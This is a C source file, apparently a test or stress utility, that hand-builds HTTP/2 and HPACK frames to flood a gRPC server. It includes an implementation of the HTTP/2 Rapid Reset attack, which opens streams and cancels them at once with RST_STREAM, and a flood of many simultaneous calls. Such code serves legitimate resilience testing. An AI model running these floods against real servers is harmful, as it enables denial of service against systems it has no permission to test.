#include "h2_flood.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define PAIRS_PER_WRITE 256

static size_t frame(unsigned char *out, int type, int flags, uint32_t stream, const void *payload, size_t len) {
  out[0] = (unsigned char)(len >> 16), out[1] = (unsigned char)(len >> 8), out[2] = (unsigned char)len;
  out[3] = (unsigned char)type, out[4] = (unsigned char)flags;
  out[5] = (unsigned char)(stream >> 24), out[6] = (unsigned char)(stream >> 16);
  out[7] = (unsigned char)(stream >> 8), out[8] = (unsigned char)stream;
  if (len) memcpy(out + 9, payload, len);
  return 9 + len;
}

/* A literal header field without indexing, new name, no Huffman. */
static size_t literal(unsigned char *out, const char *name, const char *value) {
  size_t n = strlen(name), v = strlen(value);
  out[0] = 0, out[1] = (unsigned char)n;
  memcpy(out + 2, name, n);
  out[2 + n] = (unsigned char)v;
  memcpy(out + 3 + n, value, v);
  return 3 + n + v;
}

int h2_flood_write_fd(void *arg, const void *buf, size_t len) {
  int fd = *(int *)arg;
  for (size_t done = 0; done < len;) {
    ssize_t n = send(fd, (const char *)buf + done, len - done, MSG_NOSIGNAL);
    if (n <= 0) return -1;
    done += (size_t)n;
  }
  return 0;
}

/* The HPACK block opening a call of path (at most 255 bytes of path). */
static size_t call_headers(unsigned char *out, const char *path) {
  size_t h = 0;
  out[h++] = 0x83, out[h++] = 0x86; /* :method POST, :scheme http (static table) */
  h += literal(out + h, ":path", path);
  h += literal(out + h, ":authority", "x");
  h += literal(out + h, "content-type", "application/grpc");
  h += literal(out + h, "te", "trailers");
  return h;
}

/* `count` times a HEADERS frame opening a call of path (stream 2i + 1) and the frame of the
 * given type, flags and payload on the same stream, after the preface, an empty SETTINGS and,
 * when ack, a SETTINGS acknowledgement; returns the pairs written before a write failed. */
static int flood(h2_flood_write_fn write, void *arg, const char *path, int count, int ack, int type, int flags,
                 const unsigned char *payload, size_t len) {
  unsigned char headers[512];
  size_t h = call_headers(headers, path);
  unsigned char start[64];
  memcpy(start, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
  size_t n = 24 + frame(start + 24, 4, 0, 0, NULL, 0);
  if (ack) n += frame(start + n, 4, 0x1, 0, NULL, 0);
  if (write(arg, start, n) != 0) return 0;
  unsigned char *buf = malloc(PAIRS_PER_WRITE * (2 * 9 + h + len));
  if (!buf) return 0;
  int sent = 0;
  while (sent < count) {
    int batch = count - sent < PAIRS_PER_WRITE ? count - sent : PAIRS_PER_WRITE;
    n = 0;
    for (int i = 0; i < batch; i++) {
      uint32_t id = 2 * (uint32_t)(sent + i) + 1;
      n += frame(buf + n, 1, 0x4, id, headers, h); /* END_HEADERS */
      n += frame(buf + n, type, flags, id, payload, len);
    }
    if (write(arg, buf, n) != 0) break;
    sent += batch;
  }
  free(buf);
  return sent;
}

int h2_flood_rapid_reset(h2_flood_write_fn write, void *arg, const char *path, int pairs) {
  static const unsigned char cancel[4] = {0, 0, 0, 8}; /* RST_STREAM CANCEL */
  return flood(write, arg, path, pairs, 0, 3, 0, cancel, sizeof(cancel));
}

int h2_flood_calls(h2_flood_write_fn write, void *arg, const char *path, int calls, int early_ack) {
  static const unsigned char empty[5] = {0}; /* an uncompressed gRPC message of 0 bytes */
  return flood(write, arg, path, calls, early_ack, 0, 0x1, empty, sizeof(empty)); /* DATA, END_STREAM */
}
